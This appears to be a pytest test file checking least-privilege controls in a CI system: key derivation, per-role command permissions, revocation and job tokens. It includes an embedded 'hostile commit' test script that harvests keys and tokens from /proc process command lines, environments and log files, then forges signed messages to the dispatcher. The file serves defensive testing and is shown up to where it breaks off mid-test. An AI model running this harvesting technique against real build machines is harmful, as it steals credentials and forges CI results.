"""Least privilege (issue 8): a pushed commit can change nothing but its
own result.  Issued keys and their roles, job tokens, certificate roles,
and a hostile commit that steals what it can reach and forges with it.

Every check is against real processes where the behaviour lives there
(the dispatcher's permission table, its token checks, TLS handshakes),
and in-process where it is a pure function (key derivation, frames)."""

from __future__ import annotations

import json
import os
import pathlib
import pwd
import re
import shutil
import socket
import ssl
import subprocess
import tempfile
import threading

import pytest

from ci import auth
import helpers
from support.cluster import (FAILING_TEST, PASSING_TEST, PY, ROOT, Cluster, Daemon, Upstream, git,
                      free_port, project_copy, wait_for_port, wait_until)
from support.users import new_test_user
from ci.config import ConfigError
from ci.outcome import Outcome
from ci.security import Security, load_credentials, make_tls_contexts
from ci.wire import (Message, ProtocolError, decode_fields, decode_header, encode_fields,
    encode_frame, verify_frame)

MASTER = b"master secret of the least-privilege tests"
LOOPBACK = "127.0.0.1"
C1, C2, C3 = "a" * 40, "b" * 40, "c" * 40


def write_secret(path, data: bytes) -> str:
    path = pathlib.Path(path)
    path.write_bytes(data)
    path.chmod(0o600)
    return str(path)


def key_security(role: str, name: str, master: bytes = MASTER) -> Security:
    """What a process started with an issued key file signs with."""
    key_id, key = auth.parse_key_file(auth.format_key_file(role, name, master).encode())
    return Security(secret=key, key_id=key_id)


def ask(port: int, command: str, argument: str = "", body: bytes = b"",
        security: Security | None = None) -> Message:
    return helpers.call((LOOPBACK, port), command, argument, body, security=security,
                        timeout=5)


def warnings(daemon) -> list[str]:
    return [line for line in daemon.log().splitlines() if " WARNING " in line]


# --------------------------------------------------------------------------
# Keys: derivation, key files, revocation, keyrings.  Pure or in-process.

def test_key_derivation_is_stable_and_differs_per_role_name_and_master():
    key = auth.derive_key(MASTER, "runner", "r1")
    assert key == auth.derive_key(MASTER, "runner", "r1")
    assert re.fullmatch(rb"[0-9a-f]{64}", key)
    others = {auth.derive_key(MASTER, "runner", "r2"), auth.derive_key(MASTER, "observer", "r1"),
              auth.derive_key(MASTER, "viewer", "r1"), auth.derive_key(b"other", "runner", "r1")}
    assert key not in others and len(others) == 4
    # The key is not the master, nor anything a runner could turn back into it.
    assert MASTER not in key
    for role, name in (("admin", "x"), ("runner", ""), ("runner", "a b"), ("runner", "a:b"),
                       ("runner", "x" * 65), ("runner", "../etc")):
        with pytest.raises(ValueError):
            auth.derive_key(MASTER, role, name)


def test_key_file_format_round_trips_and_malformed_files_are_refused(tmp_path):
    text = auth.format_key_file("observer", "obs-1", MASTER)
    assert text.startswith("ci-key-v1 observer:obs-1 ") and text.endswith("\n")
    assert auth.parse_key_file(text.encode()) == (
        "observer:obs-1", auth.derive_key(MASTER, "observer", "obs-1"))
    # Anything without the magic word is a plain shared secret.
    assert auth.parse_key_file(b"just a shared secret") is None
    for bad in (b"ci-key-v1 runner:r1", b"ci-key-v1 runner:r1 " + b"0" * 63,
                b"ci-key-v1 runner:r1 " + b"G" * 64, b"ci-key-v1 admin:r1 " + b"0" * 64,
                b"ci-key-v1 runner:r1 " + b"0" * 64 + b" extra",
                b"ci-key-v1 runner " + b"0" * 64):
        with pytest.raises(ValueError):
            auth.parse_key_file(bad)
        path = write_secret(tmp_path / "bad.key", bad)
        with pytest.raises(ConfigError, match="malformed key file"):
            load_credentials(path)
    path = write_secret(tmp_path / "good.key", text.encode())
    assert load_credentials(path) == (auth.derive_key(MASTER, "observer", "obs-1"),
                                              "observer:obs-1")
    shared = write_secret(tmp_path / "shared", b"  plain secret \n")
    assert load_credentials(shared) == (b"plain secret", None)


def test_issue_key_command_writes_a_private_key_file_and_needs_the_master(tmp_path):
    master = write_secret(tmp_path / "master", MASTER)
    out = tmp_path / "r1.key"
    proc = subprocess.run([PY, os.path.join(ROOT, "dispatcher.py"), "issue-key", "--role",
                           "runner", "r1", "--secret-file", master, "--output", str(out)],
                          capture_output=True, text=True, timeout=20)
    assert proc.returncode == 0, proc.stderr
    assert out.stat().st_mode & 0o777 == 0o600
    assert out.read_text() == auth.format_key_file("runner", "r1", MASTER)
    printed = subprocess.run([PY, os.path.join(ROOT, "dispatcher.py"), "issue-key", "--role",
                              "viewer", "dash", "--secret-file", master],
                             capture_output=True, text=True, timeout=20)
    assert printed.stdout == auth.format_key_file("viewer", "dash", MASTER)
    # An issued key cannot issue keys, and a bad name is refused.
    for args in (["x", "--secret-file", str(out)], ["a b", "--secret-file", master]):
        proc = subprocess.run([PY, os.path.join(ROOT, "dispatcher.py"), "issue-key", *args],
                              capture_output=True, text=True, timeout=20)
        assert proc.returncode == 2 and "error" in proc.stderr, proc


def test_revocations_are_reread_when_the_file_changes(tmp_path):
    path = str(tmp_path / "revoked-keys")
    revocations = auth.Revocations(path)
    assert not revocations.revoked("runner:r1")  # no file: nothing revoked
    auth.add_revocation(path, "r1")
    wait_until(lambda: revocations.revoked("runner:r1"), 3, what="revocation noticed")
    # A bare name revokes every role of that name; ROLE:NAME only that one.
    assert revocations.revoked("viewer:r1") and not revocations.revoked("runner:r2")
    auth.add_revocation(path, "observer:o1")
    wait_until(lambda: revocations.revoked("observer:o1"), 3, what="second revocation")
    assert not revocations.revoked("operator:o1")
    with open(path, "w") as handle:   # the operator takes r1 back
        handle.write("observer:o1\n")
    wait_until(lambda: not revocations.revoked("runner:r1"), 3, what="un-revocation")
    for bad in ("a b", "../x", "admin:x", ""):
        with pytest.raises(ValueError):
            auth.add_revocation(path, bad)


def test_keyrings_map_key_ids_to_keys_and_roles(tmp_path):
    path = str(tmp_path / "revoked-keys")
    master = auth.MasterKeyring(MASTER, auth.Revocations(path))
    assert master.lookup(None) == (MASTER, auth.ADMIN, None)
    assert master.lookup("runner:r1") == (auth.derive_key(MASTER, "runner", "r1"), "runner",
                                          "r1")
    assert master.lookup("viewer:dash")[1:] == ("viewer", "dash")
    for bad in ("admin:x", "runner:", "runner:a b", "nobody:r1"):
        assert master.lookup(bad) is None
    assert master.key_for("runner", "r1") == (auth.derive_key(MASTER, "runner", "r1"),
                                              "runner:r1")
    assert master.key_for("runner", None) == (MASTER, None)
    auth.add_revocation(path, "r1")
    wait_until(lambda: master.lookup("runner:r1") is None, 3, what="revoked key refused")
    assert master.lookup("runner:r2") is not None

    key = auth.derive_key(MASTER, "runner", "r1")
    # A runner's or observer's side: only its own key (helpers.Security).
    own = Security(secret=key, key_id="runner:r1")
    assert own.lookup("runner:r1") == (key, "runner", "r1")
    assert own.lookup(None) == (key, "runner", "r1")
    assert own.lookup("runner:r2") is None and own.lookup("observer:x") is None
    shared = Security(secret=MASTER)
    assert shared.lookup(None) == (MASTER, auth.ADMIN, None)
    assert shared.lookup("runner:r1") is None


def test_frames_carry_the_key_id_and_it_is_signed():
    key = auth.derive_key(MASTER, "runner", "r1")
    frame = encode_frame(b"results:x", key, key_id="runner:r1", nonce="ab" * 6)
    line, _, payload = frame.partition(b"\n")
    header = decode_header(line)
    assert header.key_id == "runner:r1" and payload == b"results:x"
    verify_frame(header, payload, key)
    # The key id is part of what is signed: swapping it breaks the tag,
    # so a runner cannot pass its frame off as another key's.
    swapped = decode_header(line.replace(b"runner:r1", b"runner:r2"))
    with pytest.raises(ProtocolError, match="bad signature"):
        verify_frame(swapped, payload, key)
    dropped = decode_header(line.rsplit(b" ", 1)[0])
    assert dropped.key_id is None
    with pytest.raises(ProtocolError, match="bad signature"):
        verify_frame(dropped, payload, key)
    # Without a secret no key id is sent; a malformed one is not a frame.
    assert decode_header(encode_frame(b"x", key_id="runner:r1")
                                 .split(b"\n")[0]).key_id is None
    with pytest.raises(ProtocolError, match="key id"):
        decode_header(line.rsplit(b" ", 1)[0] + b" r1")


# --------------------------------------------------------------------------
# Roles against a real dispatcher.

ALL_COMMANDS = ("register", "results", "release", "progress", "dispatch", "retest",
                "status", "state", "log", "prefetch")
ALLOWED = {
    "runner": {"register", "results", "release", "progress"},
    "observer": {"dispatch", "retest", "status", "state", "log", "prefetch"},
    "operator": {"dispatch", "retest", "status", "state", "log", "prefetch"},
    "viewer": {"status", "state", "log"},
}


def _request(command: str, runner_port: int) -> tuple[str, bytes]:
    return {
        "register": (f"{LOOPBACK}:{runner_port}",
                     encode_fields({"instance": "i1", "busy": ""})),
        "results": (f"{C3} {'0' * 32}", Outcome({"verdict": "passed"}).to_body()),
        "release": (f"{C3} {'0' * 32}", b""),
        "progress": (f"{C3} {'0' * 32}", b"out"),
        "dispatch": (C3, b""),
        "retest": (C3, b""),
        "status": ("", b""),
        "state": ("", b""),
        "log": (C3, b""),
        "prefetch": ("", b""),
    }[command]


def test_each_role_may_send_only_its_commands(cluster, tmp_path):
    disp = cluster.start_dispatcher("--secret-file", write_secret(tmp_path / "master", MASTER))
    port = cluster.dispatcher_port
    unused_port = free_port()
    for role, allowed in ALLOWED.items():
        security = key_security(role, f"{role}-1")
        for command in ALL_COMMANDS:
            argument, body = _request(command, unused_port)
            reply = ask(port, command, argument, body, security)
            text = f"{reply.command}:{reply.argument}"
            if command in allowed:
                assert "not allowed" not in text, (role, command, text)
            else:
                assert text == f"error:{command} is not allowed for role {role}", (role,
                                                                                   command)
    # The allowed ones really worked, not merely passed the gate.
    assert ask(port, "status", security=key_security("viewer", "v")).command == "ok"
    state = json.loads(ask(port, "state", security=key_security("viewer", "v")).body)
    assert state["queue"][0]["commit"] == C3    # dispatched by the observer key
    assert ask(port, "log", C3, security=key_security("viewer", "v")) == Message("ok", "idle")
    # The master (or a plain shared secret) is admin: everything.
    admin = Security(secret=MASTER)
    assert ask(port, "dispatch", C1, security=admin).argument == "queued 1"
    assert ask(port, "status", security=admin).command == "ok"
    # A key id the master did not derive (another master) is refused.
    with pytest.raises(ProtocolError, match="bad signature"):
        ask(port, "status", security=key_security("viewer", "v", b"another master"))
    refusals = [w for w in warnings(disp) if "is not allowed for role" in w]
    assert len(refusals) == sum(len(ALL_COMMANDS) - len(a) for a in ALLOWED.values())
    assert all("refused request from 127.0.0.1:" in w for w in refusals)


def test_a_revoked_runner_key_is_refused_within_a_second_without_restart(cluster, tmp_path,
                                                                         keyed_runners):
    disp = cluster.start_dispatcher("--secret-file", write_secret(tmp_path / "master", MASTER))
    r1, r2 = key_security("runner", "r1"), key_security("runner", "r2")
    body = encode_fields({"instance": "i1", "busy": ""})
    registered, = keyed_runners("r1")   # a live runner holding the key to revoke
    registered.register(cluster.dispatcher_port)
    proc = subprocess.run([PY, os.path.join(ROOT, "dispatcher.py"), "revoke-key", "r1",
                           "--state-dir", cluster.state], capture_output=True, text=True,
                          timeout=20)
    assert proc.returncode == 0 and "revoked r1" in proc.stdout, proc.stderr

    def refused():
        try:
            ask(cluster.dispatcher_port, "register", f"{LOOPBACK}:{free_port()}", body, r1)
        except ProtocolError as exc:
            return "unknown or revoked key" in str(exc)
        return False
    wait_until(refused, 2.5, interval=0.1, what="the revoked key refused")
    assert ask(cluster.dispatcher_port, "register", f"{LOOPBACK}:{free_port()}", body,
               r2).command == "ok"
    assert any("unknown or revoked key 'runner:r1'" in w for w in warnings(disp))
    # The registered runner with that key is dropped too: it could take work
    # but never report it.
    viewer = key_security("viewer", "v")
    wait_until(lambda: not json.loads(ask(cluster.dispatcher_port, "state",
                                          security=viewer).body)["runners"], 3,
               what="the revoked runner dropped")
    assert ask(cluster.dispatcher_port, "dispatch", C1,
               security=key_security("observer", "o")).argument == "queued 1"
    state = json.loads(ask(cluster.dispatcher_port, "state", security=viewer).body)
    assert [q["commit"] for q in state["queue"]] == [C1] and not state["runners"]
    assert registered.token(C1) is None
    assert disp.alive()


# --------------------------------------------------------------------------
# Job tokens against a real dispatcher, with runners that are test stand-ins
# holding issued keys (so the test decides when each one reports).

class KeyedRunner:
    """A runner stand-in with its own issued key: it answers ``ping`` and
    ``runtest`` as a runner does, and records the token of each job."""

    def __init__(self, name: str):
        self.name = name
        self.security = key_security("runner", name)
        self.lock = threading.Lock()
        self.tokens: dict[str, list[str]] = {}
        self.instance = name + "-instance"
        commands = {"ping": self.ping, "runtest": self.runtest}
        self.server = helpers.MessageServer((LOOPBACK, 0), commands, self.security)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever,
                                       kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def ping(self, message, peer):
        return Message("ok", "pong", encode_fields({"instance": self.instance,
                                                            "busy": ""}))

    def runtest(self, message, peer):
        commit, token = message.argument.split()
        with self.lock:
            self.tokens.setdefault(commit, []).append(token)
        return Message("ok")

    def token(self, commit: str) -> str | None:
        """The newest token this runner was given for ``commit``."""
        with self.lock:
            got = self.tokens.get(commit)
            return got[-1] if got else None

    def count(self, commit: str) -> int:
        with self.lock:
            return len(self.tokens.get(commit, []))

    def register(self, port: int) -> None:
        reply = ask(port, "register", f"{LOOPBACK}:{self.port}", encode_fields(
            {"instance": self.instance, "busy": ""}), self.security)
        assert reply.command == "ok", reply

    def send(self, port: int, command: str, commit: str, token: str | None,
             body: bytes = b"") -> str:
        argument = f"{commit} {token}" if token else commit
        reply = ask(port, command, argument, body, self.security)
        return f"{reply.command}:{reply.argument}"

    def close(self) -> None:
        self.server.shutdown()
        self.thread.join(5)
        self.server.server_close()


@pytest.fixture
def keyed_runners():
    made = []

    def make(*names):
        made.extend(KeyedRunner(name) for name in names)
        return made[-len(names):]
    yield make
    for runner in made:
        runner.close()


def verdict_body(verdict: str, note: str = "") -> bytes:
    return Outcome({"verdict": verdict}, note.encode()).to_body()


def test_results_release_and_progress_need_the_assignees_token(cluster, tmp_path,
                                                                keyed_runners):
    disp = cluster.start_dispatcher("--secret-file", write_secret(tmp_path / "master", MASTER))
    port = cluster.dispatcher_port
    r1, r2 = keyed_runners("r1", "r2")
    r1.register(port)
    r2.register(port)
    observer = key_security("observer", "obs")
    assert ask(port, "dispatch", f"{C1} {C2}", security=observer).argument == "queued 2"
    wait_until(lambda: (r1.token(C1) or r2.token(C1)) and (r1.token(C2) or r2.token(C2)), 10,
               what="both commits assigned")
    a, b = (r1, r2) if r1.token(C1) else (r2, r1)   # a runs C1, b runs C2
    t1, t2 = a.token(C1), b.token(C2)
    assert re.fullmatch(r"[0-9a-f]{32}", t1) and t1 != t2
    before = len(warnings(disp))

    refused = {
        "no token": a.send(port, "results", C1, None, verdict_body("passed")),
        "made-up token": a.send(port, "results", C1, "0123456789abcdef" * 2,
                                verdict_body("passed")),
        "another commit's token": a.send(port, "results", C1, t2, verdict_body("passed")),
        "another runner's job": b.send(port, "results", C1, t1, verdict_body("passed")),
        "release by another": b.send(port, "release", C1, t1),
        "release, wrong token": a.send(port, "release", C1, t2),
        "progress by another": b.send(port, "progress", C1, t1, b"forged output"),
        "progress, wrong token": a.send(port, "progress", C1, "f" * 32, b"forged output"),
    }
    for what, reply in refused.items():
        assert reply.startswith("error:"), (what, reply)
    assert "usage: results:<full commit id> <token>" in refused["no token"]
    assert "no such assignment" in refused["made-up token"]
    assert "no such assignment" in refused["another commit's token"]
    assert "assigned to another runner" in refused["another runner's job"]
    assert len(warnings(disp)) - before >= len(refused)
    assert not cluster.result_files()
    viewer = key_security("viewer", "v")
    assert ask(port, "log", C1, security=viewer) == Message("ok", "running", b"")

    # The assignee's own progress and result count.
    assert a.send(port, "progress", C1, t1, b"real output") == "ok:"
    assert ask(port, "log", C1, security=viewer).body == b"real output"
    assert a.send(port, "results", C1, t1, verdict_body("failed")) == "ok:stored"
    assert cluster.result(C1)["verdict"] == "failed"

    # Retest: a new round, a new token; the old token is now a duplicate.
    assert ask(port, "retest", C1, security=observer).argument == "queued 1"
    wait_until(lambda: r1.count(C1) + r2.count(C1) == 2, 10, what="C1 assigned again")
    again = r1 if r1.count(C1) == (2 if a is r1 else 1) else r2
    t1_new = again.token(C1)
    assert t1_new not in (t1, t2)
    assert a.send(port, "results", C1, t1, verdict_body("passed")) == "ok:duplicate"
    assert cluster.result(C1)["verdict"] == "failed"
    # Release: only the current assignee, with the current token.  (``b``
    # was busy with C2, so the retest went to ``a``; ``b`` finishes C2 now.)
    other = b
    assert again is a
    assert b.send(port, "results", C2, t2, verdict_body("passed")) == "ok:stored"
    assert "assigned to another runner" in other.send(port, "release", C1, t1_new)
    assert "not the current assignment" in again.send(port, "release", C1, t1)
    before = other.count(C1)
    assert again.send(port, "release", C1, t1_new) == "ok:released"
    wait_until(lambda: other.count(C1) > before, 10, what="C1 handed to the other runner")
    t1_third = other.token(C1)
    assert t1_third not in (t1, t1_new)
    assert other.send(port, "results", C1, t1_third, verdict_body("passed", "round 2")) == \
        "ok:stored"
    wait_until(lambda: cluster.result(C1)["verdict"] == "passed", 5, what="retest verdict")


def test_a_late_result_from_a_reassigned_job_wins_if_it_is_first(cluster, tmp_path,
                                                                  keyed_runners):
    cluster.start_dispatcher("--secret-file", write_secret(tmp_path / "master", MASTER))
    port = cluster.dispatcher_port
    r1, = keyed_runners("r1")
    r1.register(port)
    observer = key_security("observer", "obs")
    assert ask(port, "dispatch", C2, security=observer).argument == "queued 1"
    first = wait_until(lambda: r1.token(C2), 10, what="C2 assigned to r1")
    r1.close()  # its port goes dead: the dispatcher drops it and requeues C2
    r2, = keyed_runners("r2")
    r2.register(port)
    second = wait_until(lambda: r2.token(C2), 10, what="C2 reassigned to r2")
    assert second != first
    # r1's run was not lost after all: its result, with its real token, comes first.
    assert r1.send(port, "results", C2, first, verdict_body("failed", "r1")) == "ok:stored"
    assert r2.send(port, "results", C2, second, verdict_body("passed", "r2")) == "ok:duplicate"
    fields = cluster.result(C2)
    assert fields["verdict"] == "failed" and fields["output"] == b"r1"


# --------------------------------------------------------------------------
# The hostile commit, end to end.

SLOW_FAILING_TEST = """import time
import unittest


class TestSlowAndBroken(unittest.TestCase):
    def test_fails_after_a_while(self):
        time.sleep(3)
        self.assertEqual(1 + 1, 3)
"""

# A test that "looks harmless": it steals what it can reach and forges with
# it.  Standard library only, and none of the CI's code: it signs frames
# itself, as an attacker who read the README would.
HOSTILE_TEST = r'''import hashlib
import hmac
import json
import os
import re
import secrets
import socket
import subprocess
import time
import unittest

HEX32 = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")
SECRET_FLAGS = ("--secret-file", "--tls-key", "--webhook-secret-file")


def read(path, limit=4 << 20):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return None


def frame(payload, key, key_id):
    ts, nonce = b"%.3f" % time.time(), secrets.token_hex(12).encode()
    if key is None:
        return b"CI1 %d %s %s -\n" % (len(payload), ts, nonce) + payload
    mac = hmac.new(key, digestmod=hashlib.sha256)
    for part in (b"CI1", ts, nonce, b""):
        mac.update(part + b"\n")
    if key_id:
        mac.update(b"key " + key_id.encode() + b"\n")
    mac.update(payload)
    kid = b" " + key_id.encode() if key_id else b""
    return b"CI1 %d %s %s %s%s\n" % (len(payload), ts, nonce, mac.hexdigest().encode(),
                                     kid) + payload


def send(address, payload, key, key_id):
    try:
        with socket.create_connection(address, timeout=5) as sock:
            sock.sendall(frame(payload, key, key_id))
            sock.shutdown(socket.SHUT_WR)
            data = b""
            while len(data) < 65536:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                data += chunk
    except OSError as exc:
        return "no reply: %s" % exc
    return data.partition(b"\n")[2].split(b"\n")[0].decode("ascii", "replace")


class TestLooksHarmless(unittest.TestCase):
    def test_nothing_to_see(self):
        texts, keys, addresses = [], {}, set()

        def take_secret(data, where):
            data = data.strip()
            if not data:
                return
            if data.startswith(b"ci-key-v1 "):
                parts = data.decode("ascii", "replace").split()
                if len(parts) == 3:
                    keys.setdefault(parts[2], (parts[1], parts[2], []))[2].append(where)
            else:
                text = data.decode("latin-1")
                keys.setdefault(text, (None, text, []))[2].append(where)

        for name, value in os.environ.items():
            texts.append(value.encode())
            if "SECRET" in name or value.startswith("ci-key-v1 "):
                take_secret(value.encode(), "own environment " + name)
        # Only this cluster's processes (those naming its folder): other
        # software on the machine is not ours to probe.
        cluster = os.path.dirname(os.getcwd()).encode()
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            cmdline = read("/proc/%s/cmdline" % pid)
            if not cmdline or cluster not in cmdline:
                continue
            texts.append(cmdline)
            args = [a.decode("utf-8", "replace") for a in cmdline.split(b"\0")]
            try:
                cwd = os.readlink("/proc/%s/cwd" % pid)
            except OSError:
                cwd = os.getcwd()
            for i, arg in enumerate(args):
                flag, eq, value = arg.partition("=")
                if flag in SECRET_FLAGS:
                    value = value if eq else (args[i + 1] if i + 1 < len(args) else "")
                    path = os.path.join(cwd, value)
                    data = read(path)
                    if data is not None:
                        texts.append(data)
                        take_secret(data, "file %s named by pid %s" % (path, pid))
                if flag == "--dispatcher-server" and i + 1 < len(args):
                    host, _, port = args[i + 1].rpartition(":")
                    if port.isdigit():
                        addresses.add((host, int(port)))
            environ = read("/proc/%s/environ" % pid)
            if environ:
                texts.append(environ)
                for entry in environ.split(b"\0"):
                    name, _, value = entry.partition(b"=")
                    if b"SECRET" in name:
                        take_secret(value, "environment of pid %s" % pid)
            for fd in ("1", "2"):   # logs: maybe someone logs a token
                try:
                    target = os.readlink("/proc/%s/fd/%s" % (pid, fd))
                except OSError:
                    continue
                if target.startswith("/") and os.path.isfile(target):
                    data = read("/proc/%s/fd/%s" % (pid, fd), 8 << 20)
                    if data:
                        texts.append(data)
        tokens = sorted({t.decode() for text in texts for t in HEX32.findall(text)})
        previous = subprocess.run(["git", "rev-parse", "HEAD~1"], capture_output=True,
                                  text=True).stdout.strip()
        replies = []
        body = b"verdict: passed\ntests: 1\n\nforged: all good\n"
        for address in sorted(addresses):
            for key_id, key, _where in list(keys.values()) + [(None, None, "unsigned")]:
                secret = key.encode("latin-1") if key is not None else None
                for token in tokens[:40] + [secrets.token_hex(16)]:
                    replies.append(["results", key_id, send(
                        address, b"results:%s %s\n" % (previous.encode(), token.encode())
                        + body, secret, key_id)])
                replies.append(["register", key_id, send(
                    address, b"register:127.0.0.1:9\ninstance: thief\nbusy: \n", secret,
                    key_id)])
                replies.append(["retest", key_id, send(
                    address, b"retest:" + previous.encode(), secret, key_id)])
                replies.append(["dispatch", key_id, send(
                    address, b"dispatch:" + secrets.token_hex(20).encode(), secret, key_id)])
        report = {"keys": [[k, v, w] for k, v, w in keys.values()], "tokens": len(tokens),
                  "addresses": sorted(addresses), "previous": previous,
                  "replies": replies}
        print("HOSTILE REPORT " + json.dumps(report), flush=True)
'''

SYSTEM_PYTHON = "/usr/bin/python3"
TEST_COMMAND = f"{SYSTEM_PYTHON} -m unittest discover -s tests"


class UserDaemon(Daemon):
    """A daemon started as another (unprivileged) user."""

    def __init__(self, name, args, log_path, cwd, env, user):
        self.name, self.args, self.log_path = name, args, log_path
        self.log_handle = open(log_path, "ab")
        self.proc = subprocess.Popen(args, stdout=self.log_handle, stderr=subprocess.STDOUT,
                                     stdin=subprocess.DEVNULL, cwd=cwd, env=env,
                                     start_new_session=True, user=user.pw_uid,
                                     group=user.pw_gid, extra_groups=[])
        self.pid = self.proc.pid


def chown_tree(path, user) -> None:
    for folder, dirs, files in os.walk(path):
        os.chown(folder, user.pw_uid, user.pw_gid)
        for name in files:
            os.lchown(os.path.join(folder, name), user.pw_uid, user.pw_gid)


def nobody_clone(upstream, path, nobody) -> str:
    """A clone of ``upstream`` at ``path`` that belongs to the test user."""
    clone = upstream.clone(path)
    chown_tree(clone, nobody)
    return clone


def nobody_folder(request, prefix: str):
    """A temporary folder the unprivileged user 'nobody' can traverse
    (pytest's are private to root), removed afterwards, with an upstream
    holding one passing test; returns (folder, upstream, the user).
    Skips unless this runs as root and the user exists."""
    if os.geteuid() != 0:
        pytest.skip("needs root (to run processes as an unprivileged user)")
    try:
        nobody = pwd.getpwnam("nobody")
    except KeyError:
        pytest.skip("needs a user 'nobody'")
    base = pathlib.Path(tempfile.mkdtemp(prefix=prefix))
    request.addfinalizer(lambda: shutil.rmtree(base, ignore_errors=True))
    os.chmod(base, 0o755)
    upstream = Upstream(base / "upstream")
    return base, upstream, nobody


def user_folder_cluster(request):
    """A cluster in a folder of its own that the unprivileged user can
    traverse (pytest's are private to root), removed afterwards; returns
    (cluster, upstream, base folder, the user)."""
    if not os.access(SYSTEM_PYTHON, os.X_OK):
        pytest.skip(f"needs {SYSTEM_PYTHON}")
    base, upstream, nobody = nobody_folder(request, "ci-hostile-")
    # The unprivileged user's git must accept repositories owned by others.
    gitconfig = base / "gitconfig"
    gitconfig.write_text("[safe]\n\tdirectory = *\n")
    gitconfig.chmod(0o644)
    upstream.commit({"tests/test_sample.py": PASSING_TEST}, "initial")
    cluster = Cluster(base, upstream)

    def close():
        if getattr(request.node, "rep_call", None) is not None and request.node.rep_call.failed:
            print(cluster.dump_logs())
        cluster.close()
    request.addfinalizer(close)
    cluster.env.update(GIT_CONFIG_GLOBAL=str(gitconfig), HOME=str(base))
    return cluster, upstream, base, nobody


def hostile_cluster(request, test_user: bool):
    """Dispatcher (master), observer (its own key) and two runners (each
    its own key file, named relative to the runner's folder), in a folder
    the unprivileged user can traverse.  Without ``test_user`` the runners
    themselves run as that user (a test then reaches all they can); with
    it they run as root and each switches to a test user of its own (a
    runner ends every process of its test user after each run) for its
    tests."""
    users = {name: new_test_user(request) for name in ("ra", "rb")} if test_user else {}
    cluster, upstream, base, nobody = user_folder_cluster(request)
    secrets_ = {"master": write_secret(base / "master", MASTER),
                "observer": write_secret(base / "observer.key", auth.format_key_file(
                    "observer", "obs", MASTER).encode())}
    cluster.start_dispatcher("--secret-file", secrets_["master"])
    cluster.start_observer("--secret-file", secrets_["observer"], "--poll", "0.3",
                           "--no-listen", wait=False)
    for name in ("ra", "rb"):
        key_file = write_secret(base / f"{name}.key", auth.format_key_file(
            "runner", name, MASTER).encode())
        clone = nobody_clone(upstream, base / f"clone-{name}", users.get(name, nobody))
        common = ["--secret-file", f"{name}.key", "--test-command", TEST_COMMAND,
                  "--progress-interval", "0.3"]
        if test_user:
            state = base / f"state-{name}"
            cluster.start_runner(*common, "--test-user", users[name].pw_name, "--state-dir",
                                 str(state), clone=clone)
        else:
            os.chown(key_file, nobody.pw_uid, nobody.pw_gid)
            port = free_port()
            code = project_copy(base / "ci")   # the runner's files, readable by the user
            args = [SYSTEM_PYTHON, os.path.join(code, "test_runner.py"), "--host", LOOPBACK,
                    "--port", str(port), "--dispatcher-server", cluster.dispatcher_address,
                    "--heartbeat", "0.5", "--retry-max", "0.5", "--log-level", "DEBUG",
                    *common, clone]
            daemon = UserDaemon(f"runner-{name}", args, str(base / f"runner-{name}.log"),
                                str(base), cluster.env, nobody)
            daemon.port = port
            cluster.daemons.append(daemon)
            wait_for_port(port, daemon)
        secrets_[name] = key_file
    return cluster, upstream, secrets_


def all_key_material() -> dict[str, str]:
    return {"master": MASTER.decode(),
            "observer": auth.derive_key(MASTER, "observer", "obs").decode(),
            "ra": auth.derive_key(MASTER, "runner", "ra").decode(),
            "rb": auth.derive_key(MASTER, "runner", "rb").decode()}


def run_hostile_commit(cluster, upstream) -> tuple[dict, dict, dict]:
    """Push N-1 (slow, fails) and, while it runs, N (hostile); return the
    results of both and the hostile test's report."""
    port = cluster.dispatcher_port
    viewer = key_security("viewer", "watcher")
    first = git_head(upstream)
    cluster.result(first, 30)   # the observer's first poll; both runners idle again
    previous = upstream.commit({"tests/test_slow.py": SLOW_FAILING_TEST}, "slow and broken")

    def running():
        state = json.loads(ask(port, "state", security=viewer).body)
        return previous in [job["commit"] for job in state["running"]]
    wait_until(running, 20, what="N-1 running")
    hostile = upstream.commit({"tests/test_slow.py": None, "tests/test_hostile.py":
                               HOSTILE_TEST}, "harmless refactoring")
    hostile_result = cluster.result(hostile, 30)
    previous_result = cluster.result(previous, 30)
    marker = b"HOSTILE REPORT "
    line = next((ln for ln in hostile_result["output"].splitlines() if ln.startswith(marker)),
                None)
    assert line is not None, hostile_result["output"][-3000:]
    report = json.loads(line[len(marker):])
    assert report["previous"] == previous
    return previous_result, hostile_result, report


def git_head(upstream) -> str:
    return subprocess.run(["git", "-C", upstream.path, "rev-parse", "HEAD"],
                          capture_output=True, text=True, check=True).stdout.strip()


def assert_nothing_changed(cluster, previous_result, report) -> None:
    dispatcher = cluster.daemons[0]
    assert previous_result["verdict"] == "failed", previous_result
    assert b"forged" not in previous_result["output"]
    assert report["addresses"] == [[LOOPBACK, cluster.dispatcher_port]], report["addresses"]
    assert report["replies"], "the hostile test forged nothing"
    for command, key_id, reply in report["replies"]:
        assert not reply.startswith("ok"), (command, key_id, reply)
    # Every forgery was refused at WARNING, with the sender's address.
    refused = [w for w in warnings(dispatcher)
               if "refused request from 127.0.0.1:" in w or "bad message from 127.0.0.1:" in w]
    assert len(refused) >= len(report["replies"]), (len(refused), len(report["replies"]))
    # N-1 was written once and never retested; the forged dispatch queued nothing.
    previous = report["previous"]
    assert dispatcher.log().count(f"result for {previous[:12]}: failed") == 1
    status = decode_fields(ask(cluster.dispatcher_port, "status",
                                       security=key_security("viewer", "w")).body)
    assert (status["queued"], status["running"]) == ("0", "0"), status
    assert len(cluster.result_files()) == 3, cluster.result_files()


def test_hostile_commit_without_test_user_finds_runner_keys_but_changes_nothing(request):
    cluster, upstream, _files = hostile_cluster(request, test_user=False)
    previous_result, hostile_result, report = run_hostile_commit(cluster, upstream)
    assert_nothing_changed(cluster, previous_result, report)
    found = {key_id: (key, where) for key_id, key, where in report["keys"]}
    material = all_key_material()
    # What a test can reach without --test-user: every key its runner's
    # user can read -- both runners' keys here, through /proc cmdlines
    # resolved against each runner's folder.  Not the master or the
    # observer's key (another user's files), and not from its own
    # environment or command line: the runner passes it no key.
    assert found.get("runner:ra", (None,))[0] == material["ra"], report["keys"]
    assert found.get("runner:rb", (None,))[0] == material["rb"], report["keys"]
    assert set(found) == {"runner:ra", "runner:rb"}, report["keys"]
    # Each daemon's start-up line says what protects it.
    logs = {d.name: d.log() for d in cluster.daemons}
